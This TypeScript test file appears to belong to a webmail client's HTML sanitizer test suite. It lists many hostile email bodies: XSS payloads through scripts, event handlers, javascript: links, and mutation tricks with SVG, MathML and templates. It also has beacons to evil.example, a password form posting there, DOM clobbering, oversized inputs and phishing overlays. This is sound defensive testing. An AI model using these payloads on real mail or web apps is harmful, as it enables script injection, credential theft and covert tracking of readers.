// Mails by people who mean harm. `pwned` is what each of them tries to call; evil.example what it tries to reach.
import { expect } from 'vitest';
import type { Page } from 'playwright-core';

const X = 'pwned(1)';
const U = 'https://evil.example';
// Chosen so that it is base64 of a page with a script.
const PAGE = Buffer.from(`<script>parent.${X}</script>`).toString('base64');

export const CORPUS: [name: string, html: string][] = [
  ['script', `<p>a</p><script>${X}</script><script src="${U}/x.js"></script>`],
  ['script in capitals and pieces', `<ScRiPt>${X}</sCrIpT><scr<script>ipt>${X}</scr</script>ipt><p>a</p>`],
  ['script that is not closed', `<p>a</p><script>${X}`],
  ['nested tags', `<p>a</p><<SCRIPT>${X}//<</SCRIPT>`],
  ['null in a tag', `<p>a</p><scr\0ipt>${X}</scr\0ipt><img src=x on\0error=${X}>`],
  ['image onerror', `<p>a</p><img src=x onerror=${X}><img src="x" onerror="${X}" onload='${X}'>`],
  ['handlers without blanks', `<p>a</p><img/src="x"/onerror="${X}"><svg/onload=${X}><body/onload=${X}>`],
  ['handlers of all kinds', ['onclick', 'onmouseover', 'onfocus', 'onanimationstart', 'ontransitionend', 'onpointerenter', 'onwheel', 'ontoggle', 'onbeforeinput', 'onscrollend'].map((h) => `<div ${h}="${X}" tabindex=0 style="animation:a 1s">a</div>`).join('')],
  ['body onload', `<html><head></head><body onload="${X}" onpageshow="${X}" onhashchange="${X}"><p>a</p></body></html>`],
  ['autofocus', `<p>a</p><input autofocus onfocus=${X}><select autofocus onfocus=${X}><textarea autofocus onfocus=${X}></textarea><a autofocus tabindex=1 onfocus=${X} href=#>b</a>`],
  ['javascript links', `<p>a</p><a href="javascript:${X}">b</a><a href="JaVaScRiPt:${X}">b</a><a href=" javascript:${X}">b</a><a href="java&#10;script:${X}">b</a><a href="java\tscript:${X}">b</a><a href="&#x6A;avascript&colon;${X}">b</a><a href="\x01javascript:${X}">b</a>`],
  ['data and vbscript links', `<p>a</p><a href="data:text/html;base64,${PAGE}">b</a><a href="vbscript:${X}">b</a><a href="blob:${U}/x">b</a><a href="file:///etc/passwd">b</a><a href="//evil.example/">b</a>`],
  ['svg with scripts', `<p>a</p><svg><script>${X}</script><g onload="${X}"></g><a xlink:href="javascript:${X}"><text y=20>b</text></a><animate onbegin=${X} attributeName=x dur=1s><foreignObject><img src=x onerror=${X}></foreignObject><use href="data:image/svg+xml;base64,${PAGE}#x"/></svg>`],
  ['svg set and animate href', `<p>a</p><svg><a><set attributeName=href to="javascript:${X}"/><animate attributeName=href values="javascript:${X}"/><text y=20>b</text></a></svg>`],
  ['mathml', `<p>a</p><math href="javascript:${X}"><mi>b</mi><maction actiontype="statusline#http://evil.example" xlink:href="javascript:${X}">c</maction></math>`],
  ['mutation by math and style', `<p>a</p><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${X}&gt;">`],
  ['mutation by svg and style', `<p>a</p><svg></p><style><a id="</style><img src=1 onerror=${X}>">`],
  ['mutation by form', `<p>a</p><form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${X} src>">`],
  ['mutation by noscript', `<p>a</p><noscript><p title="</noscript><img src=x onerror=${X}>"></noscript>`],
  ['mutation by template', `<p>a</p><template><img src=x onerror=${X}><script>${X}</script></template><div><template shadowrootmode=open><img src=x onerror=${X}></template></div>`],
  ['mutation by select', `<p>a</p><select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${X}>">`],
  ['mutation by xmp and plaintext', `<p>a</p><xmp><p title="</xmp><img src=x onerror=${X}>"></xmp><listing>&lt;img src=x onerror=${X}&gt;</listing><plaintext><img src=x onerror=${X}>`],
  ['deep nesting', `<p>a</p>${'<div><b><i>'.repeat(700)}<img src=x onerror=${X}>${'</i></b></div>'.repeat(700)}`],
  ['comments', `<p>a</p><!--><img src=x onerror=${X}>--><!-- --!><img src=x onerror=${X}> --><![CDATA[<img src=x onerror=${X}>]]><!--[if gte IE 4]><script>${X}</script><![endif]-->`],
  ['iframes', `<p>a</p><iframe src="javascript:parent.${X}"></iframe><iframe srcdoc="<script>parent.parent.${X}</script>"></iframe><iframe src="${U}/frame"></iframe><frameset><frame src="${U}/f2"></frameset>`],
  ['objects', `<p>a</p><object data="${U}/o.swf" type="application/x-shockwave-flash"></object><embed src="${U}/e.svg"><object data="data:text/html;base64,${PAGE}"></object><applet code="${U}/A.class"></applet>`],
  ['meta refresh', `<meta http-equiv="refresh" content="0;url=${U}/"><meta http-equiv="Set-Cookie" content="a=b"><meta http-equiv="Content-Security-Policy" content="default-src *"><p>a</p>`],
  ['base', `<base href="${U}/" target="_top"><p>a</p><img src="x.png"><a href="y">b</a>`],
  ['links to styles', `<p>a</p><link rel=stylesheet href="${U}/a.css"><link rel=prefetch href="${U}/p"><link rel=dns-prefetch href="//evil.example"><link rel=preload as=image href="${U}/i.png"><link rel=icon href="${U}/f.ico"><style>@import url(${U}/b.css);@import "${U}/c.css";</style>`],
  ['css urls', `<p>a</p><style>body{background:url(${U}/1.png)} p::before{content:url(${U}/2.png)} p{list-style:url("${U}/3.png");cursor:url(${U}/4.cur),auto;border-image:url(${U}/5.png) 1;mask-image:url(${U}/6.png);filter:url(${U}/7.svg#x);background-image:image-set("${U}/8.png" 1x)} @font-face{font-family:e;src:url(${U}/9.woff)} p{font-family:e}</style>`],
  ['inline css urls', `<p style="background:url(${U}/1.png)">a</p><p style="background:u\\72l(${U}/2.png)">b</p><p style="background:url(/**/'${U}/3.png')">c</p><p style="--a:url(${U}/4.png);background:var(--a)">d</p><p style="background-image:-webkit-image-set(url(${U}/5.png) 1x);shape-outside:url(${U}/6.png)">e</p><p style='content:url("${U}/7.png")'>f</p>`],
  ['css of old browsers', `<p style="width:expression(${X});behavior:url(${U}/x.htc);-moz-binding:url(${U}/x.xml#a)">a</p><style>@charset "x";p{color:red;xss:expr/**/ession(${X})}</style>`],
  ['css that reads attributes', `<p>a</p><style>a[href^="h"]{background:url(${U}/h)} @media (min-width:1px){p{background:url(${U}/m)}} @supports (a:b) or (color:red){p{background:url(${U}/s)}} @layer x{p{background:url(${U}/l)}} @container (min-width:1px){p{background:url(${U}/c)}}</style><a href="https://x.example">b</a>`],
  ['css out of a sheet', `<p>a</p><style></style><img src=x onerror=${X}></style><style>p{color:red}</style ><script>${X}</script><style>/*</style><img src=x onerror=${X}>*/</style>`],
  ['remote images', `<p>a</p><img src="${U}/1.gif" width=1 height=1><img src="http://evil.example/2.gif"><img src="//evil.example/3.gif"><img srcset="${U}/4.gif 1x, ${U}/5.gif 2x"><picture><source srcset="${U}/6.gif"><img src="${U}/7.gif"></picture><img src="h&#116;tps://evil.example/8.gif"><img src="https:evil.example/9.gif"><img src="\\\\evil.example\\10.gif"><img lowsrc="${U}/11.gif" dynsrc="${U}/12.avi">`],
  ['backgrounds and posters', `<table background="${U}/1.gif"><tr><td background="//evil.example/2.gif">a</td></tr></table><video poster="${U}/3.gif" src="${U}/4.mp4" autoplay></video><audio src="${U}/5.mp3" autoplay></audio><input type=image src="${U}/6.gif"><video><track src="${U}/7.vtt" default></video>`],
  ['data images with markup', `<p>a</p><img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${X}'><image href='${U}/1.png'/></svg>"><img src="data:text/html,<script>${X}</script>"><img src="data:image/png,<script>${X}</script>">`],
  ['forms', `<p>a</p><form action="${U}/login" method=post><input name=password type=password><button formaction="javascript:${X}">Sign in</button><input type=submit formaction="${U}/2"></form><isindex action="javascript:${X}" type=image><button form=f formaction="${U}/3">b</button>`],
  ['clobbering', `<p>a</p><form id=document><input name=body><img name=attributes id=attributes></form><img name=contentDocument><a id=defaultView></a><img id=adoptedStyleSheets name=querySelectorAll><img name=documentElement><form name=head></form><img name=createElement><a id=cookie name=cookie href="cid:x">b</a><object name=firstChild></object>`],
  ['popovers and dialogs', `<p>a</p><dialog open><p>Sign in again</p></dialog><div popover id=p onbeforetoggle=${X}>b</div><button popovertarget=p>c</button><details open ontoggle=${X}><summary>d</summary>e</details><marquee onstart=${X}>f</marquee>`],
  ['cid and blob sources', `<p>a</p><img src="cid:nobody@evil.example"><img src="cid:../../jmap/api"><img src="blob:${U}/1"><img src="/jmap/session"><img src="filesystem:${U}/1"><img src="about:blank">`],
  ['links with names and pings', `<p>a</p><a href="https://evil.example/x" ping="${U}/ping" target=_top name=opener download>b</a><area href="javascript:${X}"><map name=m><area shape=default href="javascript:${X}"></map><img usemap="#m" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">`],
  ['custom elements and is', `<p>a</p><x-evil onfoo=${X}></x-evil><p is="x-evil">b</p><slot name=x onslotchange=${X}></slot><portal src="${U}/"></portal><fencedframe></fencedframe><webview src="${U}/"></webview>`],
  ['entities and charsets', `<p>a</p>&lt;script&gt;${X}&lt;/script&gt;<meta charset="utf-7">+ADw-script+AD4-${X}+ADw-/script+AD4-<p title="&quot;><img src=x onerror=${X}>">b</p><p title=\`><img src=x onerror=${X}>\`>c</p>`],
  ['attributes that end early', `<p title='"><img src=x onerror=${X}>' style="font-family:'\\"><img src=x onerror=${X}>'">a</p><p style="color:red" style="background:url(${U}/1)">b</p><p title="style=background:url(${U}/2)">c</p>`],
  ['our own attributes', `<p data-gp="0" data-gp-cid="x" data-gp-style="background:url(${U}/1)">a</p><img data-gp-cid="${U}/2"><p data-gp="__proto__">b</p><p style="color:red" data-gp="99">c</p>`],
  ['processing instructions', `<?xml version="1.0"?><?xml-stylesheet href="${U}/x.xsl"?><!DOCTYPE html [<!ENTITY x SYSTEM "${U}/e">]><p>a &x;</p><?php ${X} ?>`],
  ['namespaces', `<html xmlns:v="urn:schemas-microsoft-com:vml"><v:rect style="behavior:url(#default#VML)" fill="t"><v:fill src="${U}/1.png" type="frame"/></v:rect><html:script xmlns:html="http://www.w3.org/1999/xhtml">${X}</html:script><p>a</p></html>`],
  ['a great many images', `<p>a</p>${Array.from({ length: 500 }, (_, i) => `<img src="${U}/${i}.gif" onerror=${X}>`).join('')}`],
  ['a long run of open signs', `<p>a</p>${'<a '.repeat(20_000)}<img src=x onerror=${X}>`],
  ['quotes that never end', `<p>a</p><b title="${'x<y '.repeat(20_000)}`],
  ['styles without end', `<p>a</p>${'<style>p{'.repeat(5000)}`],
];

const inFrame = (page: Page) => page.frameLocator('article iframe');

// What is no attack on the browser, but on who reads.
export const DECEPTIONS: [name: string, html: string, check: (page: Page) => Promise<void>][] = [
  [
    'link',
    `<p><a href="${U}/login">https://bank.example/login</a></p>`,
    async (page) => {
      const link = inFrame(page).locator('a');
      expect(await link.getAttribute('title')).toBe(`${U}/login`);
      expect(await link.getAttribute('rel')).toContain('noopener');
      expect(await link.getAttribute('target')).toBe('_blank');
    },
  ],
  [
    'overlay',
    '<div style="position:fixed;inset:-9999px;z-index:2147483647;background:#fff">Your session has ended. <a href="https://evil.example/">Sign in</a></div>',
    async (page) => {
      expect(await inFrame(page).locator('div > div').evaluate((e) => getComputedStyle(e).position)).toBe('static');
      await page.getByRole('button', { name: 'Reply', exact: true }).first().waitFor();
    },
  ],
];
